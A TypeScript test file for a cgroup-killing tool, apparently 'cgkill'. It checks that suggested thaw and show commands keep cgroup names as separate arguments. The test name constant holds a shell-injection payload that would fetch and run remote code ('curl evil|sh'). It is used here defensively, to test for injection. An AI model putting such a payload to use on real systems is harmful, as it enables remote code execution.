// The commands of a hint are argument vectors. Names of cgroups are chosen by their creators: each is one argument, unchanged,
// and none is part of the hint's text.

import { expect, test } from "bun:test";

import { findHierarchies } from "../../src/cgroup/open/hierarchy.ts";
import { openCgroup } from "../../src/cgroup/open/open.ts";
import { executeThaw } from "../../src/freeze/freeze-thaw.ts";
import { newContext } from "../../src/kill/context.ts";
import { resultOfKill } from "../../src/kill/outcome.ts";
import { planKill } from "../../src/kill/plan/plan.ts";
import { DEFAULT_OPTIONS } from "../../src/kill/types.ts";
import { FakeKernel } from "../support/fake-kernel/fake-kernel.ts";
import { kill, model } from "../support/model.ts";

const EVIL = "a';curl evil|sh #\\";
const TOP = "/sys/fs/cgroup/freezer";
const THAW = [["cgkill", "thaw", `${TOP}/${EVIL}`]];

/** A target below a frozen cgroup that is called EVIL. */
function below() {
  const kernel = new FakeKernel();
  kernel.addProcess({ group: kernel.makeGroup("freezer", `${EVIL}/target`), which: "freezer" });
  kernel.makeGroup("freezer", EVIL).isSwitchedOn = true;
  const plan = () =>
    planKill(kernel, openCgroup(kernel, findHierarchies(kernel), `${TOP}/${EVIL}/target`), DEFAULT_OPTIONS);
  const control = { deadline: kernel.now() + 100, abort: new AbortController().signal, onEvent: () => {} };
  return { kernel, plan, control };
}

test("a survivor that another freezer cgroup freezes: the command thaws that cgroup", async () => {
  const on = model("kill");
  const group = on.kernel.makeGroup("freezer", EVIL);
  group.isSwitchedOn = true;
  on.kernel.addProcess({ group: on.target, which: "v2" }).groups.set(on.kernel.hierarchy("freezer"), group);
  on.kernel.failNext("write", /freezer\/cgroup\.procs$/, "EACCES", Number.POSITIVE_INFINITY);
  const { outcome } = await kill(on);
  expect(outcome.survivors).toMatchObject([{ hint: "thaw the cgroup that freezes it, and it dies", commands: THAW }]);
  expect(outcome.error).toMatchObject({ code: "survivors", commands: THAW });
});

test("a target below a frozen ancestor, and no process can be moved out: refused, with the command that thaws it", async () => {
  const { kernel, plan } = below();
  kernel.isWritable = () => false;
  expect((await plan()).refusal).toMatchObject({
    hint: "thaw it, or let it be thawed for the duration of the kill: --thaw-ancestors",
    commands: THAW,
  });
});

test("a thaw below a frozen ancestor: the command thaws the ancestor", async () => {
  const { kernel, plan, control } = below();
  const { error } = await executeThaw(kernel, await plan(), control);
  expect(error).toMatchObject({ code: "frozen-ancestor", hint: "thaw the ancestor", commands: THAW });
});

test("a cgroup that could not be thawed: the command thaws it", async () => {
  const { kernel, plan, control } = below();
  const ctx = newContext(kernel, await plan(), control);
  ctx.record.leftFrozen.add(`${TOP}/${EVIL}`);
  expect(resultOfKill(ctx, []).error).toMatchObject({ code: "left-frozen", hint: "thaw it", commands: THAW });
});

test("a threaded cgroup: the command shows its domain", async () => {
  const kernel = new FakeKernel();
  const outside = kernel.makeGroup("v2", EVIL);
  const target = kernel.makeGroup("v2", `${EVIL}/target`);
  target.isThreaded = true;
  kernel.addProcess({ group: target, which: "v2", otherThreads: [{ tid: 9000, group: outside }] });
  const planned = await planKill(
    kernel,
    openCgroup(kernel, findHierarchies(kernel), `/${EVIL}/target`, { hierarchy: "v2" }),
    DEFAULT_OPTIONS,
  );
  expect(planned.refusal).toMatchObject({
    hint: "name the cgroup that contains all of its threads",
    commands: [["cgkill", "show", `${kernel.hierarchy("v2").point}/${EVIL}`]],
  });
});
